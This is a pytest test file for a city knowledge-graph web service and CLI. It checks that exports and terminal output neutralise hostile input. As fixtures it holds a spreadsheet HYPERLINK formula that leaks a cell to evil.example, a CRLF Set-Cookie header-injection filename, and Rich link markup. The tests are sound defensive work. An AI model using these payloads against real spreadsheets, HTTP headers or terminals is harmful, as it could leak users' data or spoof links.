"""Output safety: download names, CLI text, CSV cells, problems for every error, dates checked."""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import unquote

import pytest
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from graph.embedded_store import EmbeddedStore
from ontology.records import City, Dataset, Membership, Network, Source
from ontology.to_rdf import dataset_to_graph
from service.app import create_app
from service.cli import app as cli
from service.routers.export import attachment
from service.settings import ServiceSettings

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
MARKUP = "Evil [/] [link=https://evil.example]click[/link] [bold red]loud[/]"


@pytest.fixture(scope="module")
def hostile_store() -> Iterator[EmbeddedStore]:
    """Entities whose labels are formulas and Rich markup, as a hostile source could write them."""
    ds = Dataset(
        name="hostile",
        sources=[Source(id="src-h", file="h.txt", language="en")],
        entities=[
            City(id="formula-city", labels={"en": [FORMULA]}),
            City(id="plus-city", labels={"en": ["+1-555-0100"]}),
            City(id="markup-city", labels={"en": [MARKUP]}),
            Network(id="hostile-net", labels={"en": ["@SUM(1+1)"]}),
        ],
        memberships=[
            Membership(id="m-formula", member="formula-city", network="hostile-net"),
            Membership(id="m-plus", member="plus-city", network="hostile-net"),
        ],
    )
    store = EmbeddedStore()
    store.load([("hostile", dataset_to_graph(ds))])
    yield store
    store.close()


@pytest.fixture
def client(service_store: EmbeddedStore) -> Iterator[TestClient]:
    with TestClient(create_app(store=service_store, settings=ServiceSettings())) as c:
        yield c


# -- Content-Disposition (RFC 6266) -----------------------------------------------------------------


def test_a_persian_export_name_gives_a_download_not_a_500(client: TestClient) -> None:
    r = client.get("/export", params={"format": "graphml", "scope": "ego", "id": "قزوین"})
    assert r.status_code == 200
    header = r.headers["content-disposition"]
    header.encode("latin-1")  # what HTTP headers may carry
    assert header.startswith('attachment; filename="citykg-ego-_____.graphml"; ')
    encoded = header.split("filename*=UTF-8''", 1)[1]
    assert unquote(encoded) == "citykg-ego-قزوین.graphml"


def test_attachment_quotes_nothing_it_should_not() -> None:
    header = attachment('a"b\r\nSet-Cookie: x=1; é.ttl')
    assert "\r" not in header
    assert "\n" not in header
    assert header.count('"') == 2
    assert header == (
        'attachment; filename="a_b__Set-Cookie__x_1___.ttl"; '
        "filename*=UTF-8''a%22b%0D%0ASet-Cookie%3A%20x%3D1%3B%20%C3%A9.ttl"
    )


# -- CSV cells are never formulas --------------------------------------------------------------------


def test_csv_export_neutralises_formulas(hostile_store: EmbeddedStore) -> None:
    with TestClient(create_app(store=hostile_store, settings=ServiceSettings())) as c:
        r = c.get("/export", params={"format": "csv"})
    assert r.status_code == 200
    z = zipfile.ZipFile(io.BytesIO(r.content))
    labels = {row["id"]: row["label"] for row in csv.DictReader(io.StringIO(z.read("nodes.csv").decode()))}
    assert labels["formula-city"] == "'" + FORMULA
    assert labels["plus-city"] == "'+1-555-0100"
    assert labels["hostile-net"] == "'@SUM(1+1)"
    assert labels["markup-city"] == MARKUP  # text that starts harmlessly is left alone
    for row in csv.reader(io.StringIO(z.read("edges.csv").decode())):
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row


# -- the CLI prints labels as text -------------------------------------------------------------------


@pytest.fixture
def hostile_home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, hostile_store: EmbeddedStore) -> Path:
    nt = tmp_path / "hostile.nt"
    nt.write_bytes(
        b"".join(f"{q.subject} {q.predicate} {q.object} .\n".encode() for q in hostile_store.quads())
    )
    monkeypatch.setenv("CITYKG_HOME", str(tmp_path / "home"))
    loaded = CliRunner().invoke(cli, ["load", str(nt)])
    assert loaded.exit_code == 0, loaded.output
    return tmp_path / "home"


def test_show_prints_markup_in_a_label_as_text(hostile_home: Path) -> None:
    result = CliRunner().invoke(cli, ["show", "markup-city"])
    assert result.exit_code == 0, result.output
    assert MARKUP in result.output  # every bracket shown: nothing was taken as a style or a link
    assert "\x1b]8;" not in result.output  # no OSC 8 hyperlink


def test_markup_in_errors_tables_and_queries_is_text(hostile_home: Path) -> None:
    runner = CliRunner()
    missing = runner.invoke(cli, ["show", "[/] [link=https://evil.example]x"])
    assert missing.exit_code == 3
    assert "[/] [link=https://evil.example]x" in missing.output
    table = runner.invoke(
        cli,
        [
            "sparql",
            "SELECT ?l WHERE { <https://w3id.org/citykg/id/markup-city> "
            "<http://www.w3.org/2000/01/rdf-schema#label> ?l }",
        ],
    )
    assert table.exit_code == 0, table.output
    assert "[link=https://evil.example]" in table.output
    ego = runner.invoke(cli, ["ego", "hostile-net"])
    assert ego.exit_code == 0, ego.output
    assert FORMULA.replace('"', "")[:20] in ego.output.replace('"', "")


def test_a_bad_date_on_the_command_line_exits_2(hostile_home: Path) -> None:
    result = CliRunner().invoke(cli, ["stats", "--as-of", "2020-13-45"])
    assert result.exit_code == 2
    assert "2020-13-45" in result.output


# -- every error is a problem ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("method", "url", "status"),
    [
        ("GET", "/no/such/path", 404),
        ("GET", "/static/explorer.exe", 404),
        ("DELETE", "/health", 405),
        ("PUT", "/sparql", 405),
        ("GET", "/load?format=yaml", 405),
        ("GET", "/entities/no-such-entity-anywhere", 404),
    ],
)
def test_every_error_is_a_problem(client: TestClient, method: str, url: str, status: int) -> None:
    r = client.request(method, url)
    assert r.status_code == status
    assert r.headers["content-type"] == "application/problem+json"
    body = r.json()
    assert body["status"] == status
    assert body["title"]
    assert body["detail"]
    if status == 405:
        assert "allow" in r.headers


# -- dates are validated where they enter ------------------------------------------------------------

DATED = [
    "/stats",
    "/centrality",
    "/ego/qazvin",
    "/paths?source=qazvin&target=isfahan",
    "/bridges?network_a=unesco-gnlc&network_b=unesco-creative-cities-network",
    "/export?format=graphml&scope=ego&id=qazvin",
]


@pytest.mark.parametrize("url", DATED)
@pytest.mark.parametrize("as_of", ["2020-13-45", "2021-02-29", "2020-00", "2020-1-1", "tomorrow"])
def test_an_impossible_date_is_a_422(client: TestClient, url: str, as_of: str) -> None:
    r = client.get(url, params={"as_of": as_of})
    assert r.status_code == 422, r.text
    assert r.headers["content-type"] == "application/problem+json"
    assert as_of in r.json()["detail"]


@pytest.mark.parametrize("as_of", ["2020", "2020-02", "2020-02-29"])
def test_real_dates_pass(client: TestClient, as_of: str) -> None:
    assert client.get("/stats", params={"as_of": as_of}).status_code == 200


def test_an_unexpected_failure_is_a_500_problem_that_tells_nothing_inside() -> None:
    app = create_app(store=EmbeddedStore(), settings=ServiceSettings())

    @app.get("/boom")
    def boom() -> None:
        raise RuntimeError("secret path /etc/citykg/key")

    with TestClient(app, raise_server_exceptions=False) as c:
        r = c.get("/boom")
    assert r.status_code == 500
    assert r.headers["content-type"] == "application/problem+json"
    assert r.json()["title"] == "Internal error"
    assert "secret" not in r.text
